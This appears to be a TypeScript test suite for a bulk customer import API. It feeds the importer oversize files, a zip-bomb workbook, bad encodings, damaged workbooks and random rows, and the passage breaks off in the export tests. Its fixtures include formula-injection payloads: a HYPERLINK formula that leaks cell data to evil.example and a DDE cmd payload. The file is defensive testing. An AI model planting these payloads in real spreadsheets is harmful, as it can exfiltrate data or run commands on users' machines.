/**
 * Hostile files for bulk imports and exports, through the real API, Temporal workflow and
 * database: oversize files, wrong columns, formulas, wrong encodings, damaged workbooks, and random
 * files of valid and invalid rows. Whatever arrives, the upload answers 2xx or 4xx problem+json;
 * the job ends saying what to fix; a row is imported whole or reported with its row number and
 * reason; and no exported cell can run as a formula.
 */
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { maxUploadBytes } from '../../src/api/routes/file-job-routes';
import { maxImportRows, maxUnpackedXlsxBytes } from '../../src/files/read-table-file';
import { xlsxFile } from '../support/factories';
import { body, useTestSystem } from '../support/running-system';

const xlsxType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
/** What a spreadsheet runs as a formula when a cell starts with it (OWASP). */
const formulaStart = /^[=+\-@\t\r]/;
const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "=cmd|' /C calc'!A0", '@SUM(1+1)', '+1+1', '-2+3'];

const rulebook = useTestSystem();

beforeAll(async () => {
  const existing = await rulebook.post('/v1/customers', { id: 'H-existing', email: 'existing@example.com', phone: '+919700000000' });
  expect(existing.status).toBe(201);
});

/** Uploads a file as a customer import and waits for the job's end. */
async function imported(file: string | Buffer, contentType = 'text/csv', route = '/v1/customers/imports') {
  const res = await rulebook.upload(route, file, contentType);
  expect(res.status).toBe(202);
  return rulebook.finishedJob(res.headers.get('location')!);
}

/** The rejected rows of an import: row number in the file, cells, reason. */
async function rejectedRows(importId: string): Promise<Array<{ row: number; cells: string[]; error: string }>> {
  return (await body(await rulebook.api(`/v1/imports/${importId}/errors?format=json`))).rows;
}

async function count(table: 'customers' | 'import_jobs' | 'import_errors'): Promise<number> {
  const [row] = await rulebook.system.db.query<{ n: number }>(`SELECT count(*)::int AS n FROM ${table}`);
  return row!.n;
}

async function storedCustomers(idPrefix: string) {
  return rulebook.system.db.query<{
    id: string;
    email: string | null;
    phone: string | null;
    name: string | null;
    attributes: Record<string, unknown>;
  }>('SELECT id, email, phone, name, attributes FROM customers WHERE id LIKE $1 ORDER BY id', [`${idPrefix}%`]);
}

async function expectProblem(res: Response, status: number, detail: RegExp) {
  expect(res.status).toBe(status);
  expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
  expect((await body(res)).detail).toMatch(detail);
}

describe('customer imports: file size', () => {
  it('refuses a body over 2 MB with 413 problem+json and creates no job', async () => {
    const jobsBefore = await count('import_jobs');
    const csv = `email\n${'a@example.com\n'.repeat(Math.ceil(maxUploadBytes / 14) + 1)}`;
    expect(Buffer.byteLength(csv)).toBeGreaterThan(maxUploadBytes);
    await expectProblem(await rulebook.upload('/v1/customers/imports', csv, 'text/csv'), 413, /exceeds the limit of 2097152 bytes/);
    await expectProblem(
      await rulebook.upload('/v1/groups/vip-import/imports', Buffer.alloc(maxUploadBytes + 1, 0x41), xlsxType),
      413,
      /limit/,
    );
    expect(await count('import_jobs')).toBe(jobsBefore);
  });

  it(`fails a file under 2 MB with more than ${maxImportRows.toLocaleString('en')} data rows before importing any`, async () => {
    const customersBefore = await count('customers');
    const csv = `phone\n${Array.from({ length: maxImportRows + 1 }, (_, index) => `+91${String(index).padStart(10, '0')}`).join('\n')}`;
    expect(Buffer.byteLength(csv)).toBeLessThan(maxUploadBytes);
    const job = await imported(csv);
    expect(job).toMatchObject({ status: 'failed', okRows: 0, processedRows: 0, errorRows: 0 });
    expect(job.failure).toBe(
      'The file has 50,001 data rows; an import takes at most 50,000. Split it into files of at most 50,000 rows and upload each.',
    );
    expect(await count('customers')).toBe(customersBefore);
  });

  it('fails an .xlsx workbook that unpacks to more than 32 MB (a zip bomb) without loading it', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('customers');
    sheet.addRow(['email']);
    sheet.addRow(['bomb@example.com']);
    // 40 MB of zeros deflate to a few kilobytes.
    const image = workbook.addImage({
      buffer: Buffer.alloc(maxUnpackedXlsxBytes + 8 * 1024 * 1024) as unknown as ExcelJS.Buffer,
      extension: 'png',
    });
    sheet.addImage(image, 'C3:D4');
    const file = Buffer.from(await workbook.xlsx.writeBuffer());
    expect(file.length).toBeLessThan(maxUploadBytes);
    const job = await imported(file, xlsxType);
    expect(job).toMatchObject({ status: 'failed', okRows: 0, processedRows: 0 });
    expect(job.failure).toMatch(/^The workbook unpacks to more than 32 MB\. Remove other sheets, images and formatting/);
    expect(await storedCustomers('bomb')).toEqual([]);
  });
});

describe('customer imports: columns', () => {
  const files: Array<[string, unknown[][], RegExp]> = [
    [
      'no email or phone column',
      [
        ['name', 'city'],
        ['Asha', 'Pune'],
      ],
      /^The file needs an email or a phone column\.$/,
    ],
    [
      'an unknown column',
      [
        ['email', 'shoe_size'],
        ['cols.1@example.com', '42'],
      ],
      /^Unknown columns: shoe_size\. The first row must name the columns: id, email, phone, name, active, /,
    ],
    [
      'a column named twice',
      [
        ['email', 'name', 'Email'],
        ['cols.2@example.com', 'Asha', 'cols.3@example.com'],
      ],
      /^The column "email" appears twice \(columns A and C\)\. Keep one of them/,
    ],
    // The failure outlives erasures: it never repeats what looks like customer data.
    [
      'no header row',
      [
        ['cols.4@example.com', '+919700000004', 'tuesday'],
        ['cols.5@example.com', '+919700000005', 'x'],
      ],
      /^Unknown columns: tuesday, 2 cells that are not column names\. The first row must name the columns/,
    ],
    [
      'a header row without names',
      [
        ['', '', ''],
        ['cols.6@example.com', 'Asha', 'Pune'],
      ],
      /^The file has no header row\. Put the column names/,
    ],
    ['a header only', [['email', 'phone']], /^The file has no data rows\.$/],
  ];

  for (const format of ['csv', 'xlsx'] as const) {
    it.each(files)(
      `fails a ${format.toUpperCase()} file with %s, saying what to fix, and imports nothing`,
      async (_name, rows, failure) => {
        const customersBefore = await count('customers');
        const job = await imported(
          format === 'csv' ? stringify(rows) : await xlsxFile(rows as ExcelJS.CellValue[][]),
          format === 'csv' ? 'text/csv' : xlsxType,
        );
        expect(job).toMatchObject({ status: 'failed', okRows: 0 });
        expect(job.failure).toMatch(failure);
        expect(await count('customers')).toBe(customersBefore);
      },
    );
  }

  it.each([
    ['blank lines', '\n\r\n\n'],
    ['a UTF-8 byte-order mark', '\uFEFF'],
    ['commas', ',,,\n,,'],
  ])('fails a CSV file of nothing but %s: it has no header row', async (_name, csv) => {
    const job = await imported(csv);
    expect(job).toMatchObject({ status: 'failed', okRows: 0, failure: expect.stringMatching(/^The file has no header row\./) });
  });

  it('fails an XLSX workbook without any cell: it has no header row', async () => {
    const job = await imported(await xlsxFile([]), xlsxType);
    expect(job).toMatchObject({ status: 'failed', failure: expect.stringMatching(/^The file has no header row\./) });
  });

  it('refuses an empty body at the upload (422), creating no job', async () => {
    const jobsBefore = await count('import_jobs');
    await expectProblem(await rulebook.upload('/v1/customers/imports', '', 'text/csv'), 422, /The body is empty/);
    expect(await count('import_jobs')).toBe(jobsBefore);
  });

  it('reports a row whose value sits under no column name (an unquoted comma) and imports the rest', async () => {
    const csv = ['id,email,name', 'H-comma-1,comma.1@example.com,Rao, Asha', 'H-comma-2,comma.2@example.com,"Rao, Ravi"'].join('\n');
    const job = await imported(csv);
    expect(job).toMatchObject({ status: 'partial', totalRows: 2, okRows: 1, errorRows: 1 });
    expect(await rejectedRows(job.id)).toEqual([
      {
        row: 2,
        cells: ['H-comma-1', 'comma.1@example.com', 'Rao', 'Asha'],
        error:
          'Cell D2 holds a value under no column name: "Asha". Name the column in the header row, or (in CSV) put cells that contain commas in double quotes, e.g. "Rao, Asha".',
      },
    ]);
    expect(await storedCustomers('H-comma-')).toEqual([expect.objectContaining({ id: 'H-comma-2', name: 'Rao, Ravi' })]);
  });

  it('leaves out rows without any value and counts rows as a spreadsheet does', async () => {
    const csv = ['id,email,phone', '', 'H-blank-1,blank.1@example.com,', ',,', 'H-blank-2,not-an-email,'].join('\r\n');
    const job = await imported(csv);
    expect(job).toMatchObject({ status: 'partial', totalRows: 2, okRows: 1, errorRows: 1 });
    expect((await rejectedRows(job.id)).map((row) => row.row)).toEqual([5]);
  });
});

describe('customer imports: formulas', () => {
  it('stores formula-like CSV cells as plain text, never evaluated', async () => {
    const names = [...formulas, '\t=1+1', '\r=1+1'];
    const rows = names.map((name, index) => [`H-formula-${index}`, `formula.${index}@example.com`, name, name]);
    const job = await imported(stringify([['id', 'email', 'name', 'city'], ...rows]));
    expect(job).toMatchObject({ status: 'complete', okRows: names.length });
    const stored = await storedCustomers('H-formula-');
    // Leading white space (tab, carriage return) is trimmed like in any cell; the rest is kept as typed.
    expect(stored.map((customer) => customer.name)).toEqual(names.map((name) => name.trim()));
    expect(stored.map((customer) => customer.attributes.city)).toEqual(names.map((name) => name.trim()));
  });

  it('reports an XLSX formula cell with its row and cell instead of trusting its cached value, and imports the other rows', async () => {
    const file = await xlsxFile([
      ['id', 'email', 'name'],
      ['H-xf-1', 'xf.1@example.com', 'Plain Value'],
      ['H-xf-2', 'xf.2@example.com', { formula: 'HYPERLINK("http://evil.example","Click")', result: 'Click' }],
      ['H-xf-3', { formula: '"xf.3@"&"example.com"', result: 'xf.3@example.com' }, 'Computed Email'],
      ['H-xf-4', 'xf.4@example.com', { error: '#N/A' }],
    ]);
    const job = await imported(file, xlsxType);
    expect(job).toMatchObject({ status: 'partial', okRows: 1, errorRows: 3 });
    const rejected = await rejectedRows(job.id);
    expect(rejected.map((row) => [row.row, row.error])).toEqual([
      [
        3,
        'Cell C3 holds a formula, =HYPERLINK("http://evil.example","Click"), which is neither evaluated nor trusted. Replace it by its value (Paste Special › Values) and upload the row again.',
      ],
      [4, expect.stringMatching(/^Cell B4 holds a formula, ="xf\.3@"&"example\.com", which is neither evaluated nor trusted/)],
      [5, 'Cell C5 holds the error #N/A. Put a value there and upload the row again.'],
    ]);
    expect((await storedCustomers('H-xf-')).map((customer) => customer.id)).toEqual(['H-xf-1']);
  });

  it('takes back the apostrophe that exports and error files put before formula-like cells', async () => {
    const job = await imported(['id,phone,name', "H-mark-1,'+919700000101,'=1+1", "H-mark-2,+919700000102,'Brien"].join('\n'));
    expect(job).toMatchObject({ status: 'complete', okRows: 2 });
    expect(await storedCustomers('H-mark-')).toEqual([
      expect.objectContaining({ phone: '+919700000101', name: '=1+1' }),
      expect.objectContaining({ phone: '+919700000102', name: "'Brien" }),
    ]);
  });

  it('imports a corrected error file as it is: its ERROR column is ignored, its apostrophes removed', async () => {
    const first = await imported(['id,email,phone,name', 'H-again-1,again.1@example,+919700000201,@Asha'].join('\n'));
    expect(first).toMatchObject({
      status: 'failed',
      failure: `Every row was rejected. The error file (GET /v1/imports/${first.id}/errors) gives the reason for each row.`,
    });
    const errorFile = await (await rulebook.api(`/v1/imports/${first.id}/errors`)).text();
    expect(errorFile).toBe(
      'id,email,phone,name,ERROR\nH-again-1,again.1@example,\'+919700000201,\'@Asha,"""again.1@example"" is not an email address."\n',
    );
    const second = await imported(errorFile.replace('again.1@example,', 'again.1@example.com,'));
    expect(second).toMatchObject({ status: 'complete', okRows: 1 });
    expect(await storedCustomers('H-again-')).toEqual([
      expect.objectContaining({ email: 'again.1@example.com', phone: '+919700000201', name: '@Asha' }),
    ]);
  });
});

describe('customer imports: encodings', () => {
  const names = ['Zoë Müller', '李雷', 'محمد', 'Åsa Øberg 🙂'];
  const csvOf = (prefix: string) =>
    ['id,name,email', ...names.map((name, index) => `${prefix}${index},${name},${prefix.toLowerCase()}${index}@example.com`)].join('\r\n');

  it.each([
    ['UTF-8 with a byte-order mark', (text: string) => Buffer.from(`\uFEFF${text}`, 'utf8')],
    ['UTF-16LE with a byte-order mark', (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le')],
    ['UTF-16BE with a byte-order mark', (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le').swap16()],
  ])('reads %s', async (encoding, encode) => {
    const prefix = `H-${encoding.slice(0, 8).replace(/\W/g, '')}-`;
    const job = await imported(encode(csvOf(prefix)));
    expect(job).toMatchObject({ status: 'complete', okRows: names.length });
    expect((await storedCustomers(prefix)).map((customer) => customer.name)).toEqual(names);
  });

  it('reports a row with a Latin-1 name and imports the rest', async () => {
    const file = Buffer.concat([
      Buffer.from('id,email,name\nH-latin-1,latin.1@example.com,Zoë Müller\n', 'utf8'),
      Buffer.from('H-latin-2,latin.2@example.com,Zoë Müller\n', 'latin1'),
      Buffer.from('H-latin-3,latin.3@example.com,Ada\n', 'utf8'),
    ]);
    const job = await imported(file);
    expect(job).toMatchObject({ status: 'partial', okRows: 2, errorRows: 1 });
    expect(await rejectedRows(job.id)).toEqual([
      {
        row: 3,
        // Read as Latin-1, so that the error file can be corrected rather than retyped.
        cells: ['H-latin-2', 'latin.2@example.com', 'Zoë Müller'],
        error:
          'Cell C3 is not UTF-8 text; read as Latin-1 (Windows-1252) it says "Zoë Müller". Save the file as "CSV UTF-8" (or as .xlsx) and upload it again.',
      },
    ]);
    expect((await storedCustomers('H-latin-')).map((customer) => [customer.id, customer.name])).toEqual([
      ['H-latin-1', 'Zoë Müller'],
      ['H-latin-3', 'Ada'],
    ]);
    const [mangled] = await rulebook.system.db.query<{ n: number }>(
      `SELECT count(*)::int AS n FROM customers WHERE name LIKE '%' || chr(65533) || '%'`,
    );
    expect(mangled!.n).toBe(0);
  });

  it('says why a file of unreadable rows failed, without repeating their cells (the failure outlives erasures)', async () => {
    const job = await imported(Buffer.from('id,email,name\nH-unread-1,unread@example.com,Zoë Müller\n', 'latin1'));
    expect(job).toMatchObject({
      status: 'failed',
      failure: `Every row was rejected; row 2 cannot be read: Cell C2 is not UTF-8 text. The error file (GET /v1/imports/${job.id}/errors) gives the reason for each row.`,
    });
  });

  it('fails a file whose header row is not UTF-8', async () => {
    const job = await imported(Buffer.from('email,prénom\nx@example.com,Zoë\n', 'latin1'));
    expect(job).toMatchObject({
      status: 'failed',
      failure: 'The header row is not UTF-8 text. Save the file as "CSV UTF-8" (or as .xlsx) and upload it again.',
    });
  });

  it('converts a CSV body that declares its charset', async () => {
    const job = await imported(
      Buffer.from('id,email,name\nH-declared-1,declared@example.com,Zoë Müller\n', 'latin1'),
      'text/csv; charset=ISO-8859-1',
    );
    expect(job).toMatchObject({ status: 'complete', okRows: 1 });
    expect(await storedCustomers('H-declared-')).toEqual([expect.objectContaining({ name: 'Zoë Müller' })]);
    await expectProblem(
      await rulebook.upload('/v1/customers/imports', 'email\nx@example.com', 'text/csv; charset=klingon'),
      415,
      /The charset "klingon" is not known/,
    );
  });

  it('reports a row with NUL or other control bytes and imports the rest', async () => {
    const csv = [
      'id,email,name',
      'H-nul-1,nul.1@example.com,Ada\u0000Lovelace',
      'H-nul-2,nul.2@example.com,Bell\u0007',
      'H-nul-3,nul.3@example.com,Grace',
    ].join('\n');
    const job = await imported(csv);
    expect(job).toMatchObject({ status: 'partial', okRows: 1, errorRows: 2 });
    expect(await rejectedRows(job.id)).toEqual([
      {
        row: 2,
        // The database cannot hold NUL: the error file shows the control character's symbol instead.
        cells: ['H-nul-1', 'nul.1@example.com', 'Ada\u2400Lovelace'],
        error:
          'Cell C2 holds the control character U+0000, which is not text (is the file binary, or UTF-16 without a byte-order mark?). Remove it and upload the row again.',
      },
      expect.objectContaining({ row: 3, error: expect.stringMatching(/^Cell C3 holds the control character U\+0007/) }),
    ]);
    expect((await storedCustomers('H-nul-')).map((customer) => customer.id)).toEqual(['H-nul-3']);
  });

  it.each([
    [
      'UTF-16 without a byte-order mark',
      Buffer.from('email,name\nx@example.com,Ada\n', 'utf16le'),
      'text/csv',
      /^The header row holds characters that are not text: the file is binary, or UTF-16 without a byte-order mark\./,
    ],
    [
      'UTF-16 with a byte-order mark but an odd byte',
      Buffer.concat([Buffer.from('\uFEFFemail\n', 'utf16le'), Buffer.from([0x41])]),
      'text/csv',
      /^The file starts with a UTF-16LE byte-order mark but is not UTF-16LE text\./,
    ],
    ['an unclosed quote', Buffer.from('email,name\nx@example.com,"Ada\n'), 'text/csv', /^The file is not valid CSV: Quote Not Closed/],
    [
      'an .xlsx workbook sent as CSV',
      'xlsx',
      'text/csv',
      /^The file is a zip archive \(an \.xlsx workbook\?\), not CSV text\. Upload \.xlsx files with Content-Type application\/vnd/,
    ],
    [
      'CSV text sent as .xlsx',
      Buffer.from('email\nx@example.com\n'),
      xlsxType,
      /^The file is text \(CSV\?\), not an \.xlsx workbook\. Upload CSV files with Content-Type text\/csv\./,
    ],
    [
      'a legacy .xls workbook',
      Buffer.from('d0cf11e0a1b11ae1000000000000000000000000', 'hex'),
      xlsxType,
      /^The file is a legacy Excel \.xls workbook/,
    ],
    [
      'a legacy .xls workbook sent as CSV',
      Buffer.from('d0cf11e0a1b11ae1000000000000000000000000', 'hex'),
      'text/csv',
      /^The file is a legacy Excel \.xls workbook/,
    ],
    ['a truncated .xlsx workbook', 'truncated', xlsxType, /^The file is a damaged \.xlsx workbook: it is truncated or not a zip archive\./],
    ['an .xlsx workbook with damaged entries', 'damaged', xlsxType, /^The file is a damaged \.xlsx workbook: an entry does not unpack/],
    ['binary garbage sent as .xlsx', Buffer.from('504b0304ffffffffffffffff', 'hex'), xlsxType, /^The file is a damaged \.xlsx workbook/],
  ])('fails %s, saying what to do', async (_name, file, contentType, failure) => {
    const customersBefore = await count('customers');
    const job = await imported(await hostileFile(file), contentType);
    expect(job).toMatchObject({ status: 'failed', okRows: 0 });
    expect(job.failure).toMatch(failure);
    expect(await count('customers')).toBe(customersBefore);
  });

  it('fails binary garbage sent as CSV with a failure and imports nothing, whatever the bytes', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ minLength: 1, maxLength: 400 }), async (bytes) => {
        const customersBefore = await count('customers');
        const job = await imported(Buffer.from(bytes));
        // Random bytes may by chance hold a header and a data row; then the row is reported, never stored.
        expect(job.status).toBe('failed');
        expect(job.failure).toMatch(/\w+.*\./);
        expect(await count('customers')).toBe(customersBefore);
      }),
      { numRuns: 8 },
    );
  });
});

/** A test file: bytes as given, or a clean workbook damaged in a named way. */
async function hostileFile(file: string | Buffer): Promise<Buffer> {
  if (Buffer.isBuffer(file)) return file;
  const workbook = await xlsxFile([['email'], ['damaged@example.com']]);
  if (file === 'truncated') return workbook.subarray(0, Math.floor(workbook.length / 2));
  if (file === 'damaged') {
    // Overwrite the first entry's deflated data (after its 30-byte header and name) with garbage.
    const copy = Buffer.from(workbook);
    const dataStart = 30 + copy.readUInt16LE(26) + copy.readUInt16LE(28);
    copy.fill(0xff, dataStart, dataStart + 16);
    return copy;
  }
  return workbook;
}

describe('customer imports: existing customers', () => {
  it('reports a row for a customer that exists with other attribute values instead of dropping them', async () => {
    const csv = ['id,email,city', 'H-exists-city,exists.city@example.com,Pune'].join('\n');
    expect(await imported(csv)).toMatchObject({ status: 'complete', okRows: 1 });
    // The same row again changes nothing and is fine; the same customer with another city is not silently ignored.
    expect(await imported(csv)).toMatchObject({ status: 'complete', okRows: 1 });
    const job = await imported(csv.replace('Pune', 'Mumbai'));
    expect(job).toMatchObject({ status: 'failed', errorRows: 1 });
    expect((await rejectedRows(job.id))[0]!.error).toBe(
      'Customer H-exists-city already exists with other values for city; an import only creates customers. Change them with PATCH /v1/customers/H-exists-city.',
    );
    expect(await storedCustomers('H-exists-city')).toEqual([expect.objectContaining({ attributes: { city: 'Pune' } })]);
  });
});

describe('customer imports: a file of valid and invalid rows (property)', () => {
  type Kind =
    | 'valid'
    | 'bad-email'
    | 'bad-phone'
    | 'bad-date'
    | 'bad-tier'
    | 'long-name'
    | 'same-email'
    | 'same-phone'
    | 'existing-email'
    | 'not-utf8'
    | 'formula-cell'
    | 'control'
    | 'unnamed-cell';
  const reasons: Record<Exclude<Kind, 'valid'>, RegExp> = {
    'bad-email': /is not an email address\.$/,
    'bad-phone': /is not a phone number/,
    'bad-date': /^birthdate must be a date written "YYYY-MM-DD"$/,
    'bad-tier': /^loyalty_tier must be one of: bronze, silver, gold, platinum$/,
    'long-name': /^The name has 201 characters; at most 200 fit\.$/,
    'same-email': /^An account already exists with this email: /,
    'same-phone': /^An account already exists with this phone number: /,
    'existing-email': /^An account already exists with this email: existing@example\.com$/,
    'not-utf8': /^Cell D\d+ is not UTF-8 text; read as Latin-1 \(Windows-1252\) it says "Zoë Müller"\./,
    'formula-cell': /^Cell D\d+ holds a formula, =HYPERLINK/,
    control: /^Cell D\d+ holds the control character U\+00/,
    'unnamed-cell': /^Cell H\d+ holds a value under no column name: "extra"\./,
  };
  const nameParts = [
    'Asha',
    'Ravi Kumar',
    'Zoë',
    '李雷',
    'محمد',
    '🙂',
    'e\u0301',
    'zero\u200bwidth',
    "O'Brien",
    'Rao, Asha',
    '"Quoted"',
    '\u202Eevil',
    ' padded ',
    ...formulas,
  ];
  const row = fc.record({
    kind: fc.constantFrom<Kind>(
      'valid',
      'valid',
      'valid',
      'bad-email',
      'bad-phone',
      'bad-date',
      'bad-tier',
      'long-name',
      'same-email',
      'same-phone',
      'existing-email',
      'not-utf8',
      'formula-cell',
      'control',
      'unnamed-cell',
    ),
    name: fc.array(fc.constantFrom(...nameParts), { minLength: 1, maxLength: 3 }).map((parts) => parts.join(' ')),
    city: fc.constantFrom('', 'Mumbai', 'Pune', 'São Paulo', '=1+1'),
    birthdate: fc.constantFrom('', '1991-02-03', '2000-02-29'),
    tier: fc.constantFrom('', 'gold', 'silver'),
    badEmail: fc.constantFrom(
      'not-an-email',
      'a@b',
      'ü@example.com',
      '=HYPERLINK("x")@evil',
      'a b@example.com',
      `${'x'.repeat(250)}@example.com`,
    ),
    badPhone: fc.constantFrom('12ab', '+91 98000 0000', '=1+1', '123', `+${'9'.repeat(16)}`),
    badDate: fc.constantFrom('03/02/1991', '1991-02-30', '=DATE(1991,2,3)', 'yesterday'),
    pick: fc.nat(),
    blankLineBefore: fc.boolean(),
  });
  let run = 0;

  it('imports exactly the valid rows, whole, and reports every other one with its row number and reason', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom<'csv' | 'xlsx'>('csv', 'xlsx'),
        fc.array(row, { minLength: 1, maxLength: 14 }),
        async (format, generated) => {
          run += 1;
          const prefix = `P${run}-`;
          const header = ['id', 'email', 'phone', 'name', 'city', 'birthdate', 'loyalty_tier'];
          const lines: Array<{ cells: ExcelJS.CellValue[]; latin1: boolean; blankLineBefore: boolean }> = [];
          const expected: Array<{
            number: number;
            id: string;
            kind: Kind;
            customer: { email: string; phone: string; name: string; attributes: Record<string, unknown> };
          }> = [];
          let number = 1;
          for (const [index, spec] of generated.entries()) {
            // Formulas only exist in workbooks, bytes that are not UTF-8 and control characters only in CSV.
            const kind: Kind =
              format === 'xlsx' && ['not-utf8', 'control', 'unnamed-cell'].includes(spec.kind)
                ? 'formula-cell'
                : format === 'csv' && spec.kind === 'formula-cell'
                  ? 'not-utf8'
                  : spec.kind;
            const earlier = expected.filter((entry) => entry.kind === 'valid');
            const model = earlier.length > 0 ? earlier[spec.pick % earlier.length]!.customer : undefined;
            const effective: Kind = (kind === 'same-email' || kind === 'same-phone') && !model ? 'bad-email' : kind;
            const id = `${prefix}${index}`;
            const customer = {
              email: `p${run}.${index}@example.com`,
              phone: `+9160${String(run).padStart(4, '0')}${String(index).padStart(4, '0')}`,
              name: effective === 'not-utf8' ? 'Zoë Müller' : spec.name.trim(),
              attributes: Object.fromEntries(
                Object.entries({ city: spec.city, birthdate: spec.birthdate, loyalty_tier: spec.tier }).filter(([, value]) => value !== ''),
              ),
            };
            const cells: ExcelJS.CellValue[] = [id, customer.email, customer.phone, spec.name, spec.city, spec.birthdate, spec.tier];
            if (effective === 'bad-email') cells[1] = spec.badEmail;
            if (effective === 'bad-phone') cells[2] = spec.badPhone;
            if (effective === 'bad-date') cells[5] = spec.badDate;
            if (effective === 'bad-tier') cells[6] = 'diamond';
            if (effective === 'long-name') cells[3] = 'N'.repeat(201);
            if (effective === 'same-email') cells[1] = model!.email.toUpperCase();
            if (effective === 'same-phone') cells[2] = model!.phone;
            if (effective === 'existing-email') cells[1] = 'existing@example.com';
            if (effective === 'not-utf8') cells.splice(3, 2, customer.name, 'Pune');
            if (effective === 'formula-cell') cells[3] = { formula: 'HYPERLINK("http://evil.example","x")', result: 'x' };
            if (effective === 'control') cells[3] = `${spec.name}\u0001`;
            if (effective === 'unnamed-cell') cells.push('extra');
            const blankLineBefore = format === 'csv' && spec.blankLineBefore;
            number += blankLineBefore ? 2 : 1;
            lines.push({ cells, latin1: effective === 'not-utf8', blankLineBefore });
            expected.push({ number, id, kind: effective, customer });
          }
          const file =
            format === 'xlsx'
              ? await xlsxFile([header, ...lines.map((line) => line.cells)])
              : Buffer.concat([
                  Buffer.from(stringify([header])),
                  ...lines.map((line) =>
                    Buffer.from(`${line.blankLineBefore ? '\n' : ''}${stringify([line.cells])}`, line.latin1 ? 'latin1' : 'utf8'),
                  ),
                ]);

          const job = await imported(file, format === 'csv' ? 'text/csv' : xlsxType);
          const valid = expected.filter((entry) => entry.kind === 'valid');
          const invalid = expected.filter((entry) => entry.kind !== 'valid');
          expect(job).toMatchObject({
            totalRows: generated.length,
            processedRows: generated.length,
            okRows: valid.length,
            errorRows: invalid.length,
          });
          expect(job.status).toBe(invalid.length === 0 ? 'complete' : valid.length === 0 ? 'failed' : 'partial');

          const rejected = await rejectedRows(job.id);
          expect(rejected.map((entry) => entry.row)).toEqual(invalid.map((entry) => entry.number));
          for (const [index, entry] of invalid.entries()) {
            expect(rejected[index]!.error).toMatch(reasons[entry.kind as Exclude<Kind, 'valid'>]);
            expect(rejected[index]!.cells[0]).toBe(entry.id);
          }

          // Each valid row is stored whole: its fields, its attributes, their history and its default profiles.
          const stored = await storedCustomers(prefix);
          expect(stored.map((customer) => customer.id).sort()).toEqual(valid.map((entry) => entry.id).sort());
          for (const entry of valid) {
            const customer = stored.find((candidate) => candidate.id === entry.id)!;
            expect({ email: customer.email, phone: customer.phone, name: customer.name, attributes: customer.attributes }).toEqual(
              entry.customer,
            );
          }
          const history = await rulebook.system.db.query<{ customer_id: string; n: number }>(
            'SELECT customer_id, count(*)::int AS n FROM attribute_changes WHERE customer_id LIKE $1 GROUP BY customer_id',
            [`${prefix}%`],
          );
          expect(Object.fromEntries(history.map((entry) => [entry.customer_id, entry.n]))).toEqual(
            Object.fromEntries(
              valid
                .filter((entry) => Object.keys(entry.customer.attributes).length > 0)
                .map((entry) => [entry.id, Object.keys(entry.customer.attributes).length]),
            ),
          );
          const profiled = await rulebook.system.db.query<{ customer_id: string }>(
            'SELECT DISTINCT customer_id FROM customer_profiles WHERE customer_id LIKE $1',
            [`${prefix}%`],
          );
          expect(profiled.map((entry) => entry.customer_id).sort()).toEqual(valid.map((entry) => entry.id).sort());
        },
      ),
      { numRuns: 8 },
    );
  }, 180_000);
});

describe('upload routes', () => {
  it('answer whatever is sent with 2xx or 4xx problem+json, and every accepted job ends with a clear status', async () => {
    const validCsv = Buffer.from('email,name\nroutes@example.com,Routes\n');
    const workbook = await xlsxFile([['email'], ['routes.xlsx@example.com']]);
    const bodies = fc.oneof(
      fc.constantFrom(validCsv, workbook, workbook.subarray(0, 100), Buffer.alloc(0), Buffer.from('email\n')),
      fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes)),
      fc.string({ unit: 'binary', maxLength: 100 }).map((text) => Buffer.from(`email,name\n${text}\n`)),
    );
    const contentTypes = fc.constantFrom(
      'text/csv',
      'text/csv; charset=utf-8',
      'text/csv; charset=iso-8859-1',
      'text/csv; charset=utf-16',
      'text/csv; charset=klingon',
      xlsxType,
      'application/json',
      'multipart/form-data; boundary=x',
      'application/octet-stream',
      '',
    );
    const routes = fc.constantFrom(
      '/v1/customers/imports',
      '/v1/groups/vip-import/imports',
      '/v1/groups/premium-users/imports',
      '/v1/groups/no-such-group/imports',
    );
    const text = fc.option(
      fc.oneof(fc.string({ unit: 'binary', maxLength: 300 }), fc.constantFrom('a\u0000b', 'replace', 'add', 'REPLACE', '')),
      { nil: undefined },
    );
    const accepted: string[] = [];
    await fc.assert(
      fc.asyncProperty(
        routes,
        contentTypes,
        bodies,
        fc.record({ filename: text, requestedBy: text, mode: text }),
        async (route, contentType, file, query) => {
          const search = new URLSearchParams(Object.entries(query).filter((entry): entry is [string, string] => entry[1] !== undefined));
          const res = await rulebook.upload(`${route}?${search.toString()}`, file, contentType);
          if (res.status === 202) {
            accepted.push(res.headers.get('location')!);
            return;
          }
          expect(res.status).toBeGreaterThanOrEqual(400);
          expect(res.status).toBeLessThan(500);
          expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
          expect((await body(res)).detail).toMatch(/\w/);
        },
      ),
      { numRuns: 60 },
    );
    expect(accepted.length).toBeGreaterThan(0);
    for (const route of accepted) {
      const job = await rulebook.finishedJob(route);
      expect(['complete', 'partial', 'failed']).toContain(job.status);
      if (job.status === 'failed') expect(job.failure).toMatch(/\w/);
    }
  }, 180_000);

  it('refuses a multipart form upload with a hint to send the file itself', async () => {
    await expectProblem(
      await rulebook.upload('/v1/customers/imports', '--x\r\n\r\nemail\r\n--x--', 'multipart/form-data; boundary=x'),
      415,
      /Send the file itself as the body, not as a form field\./,
    );
  });

  it('refuses query parameters with control characters and unknown modes (422)', async () => {
    await expectProblem(
      await rulebook.upload('/v1/customers/imports?filename=a%00b.csv', 'email\nq@example.com', 'text/csv'),
      422,
      /The query parameter filename holds control characters/,
    );
    await expectProblem(
      await rulebook.upload('/v1/groups/vip-import/imports?mode=replce', 'email\nq@example.com', 'text/csv'),
      422,
      /mode must be add or replace; got "replce"/,
    );
  });
});

describe('customer exports', () => {
  beforeAll(async () => {
    // U+FFFE is valid JSON and UTF-8 but not XML: written as it is, it would make the whole workbook unreadable.
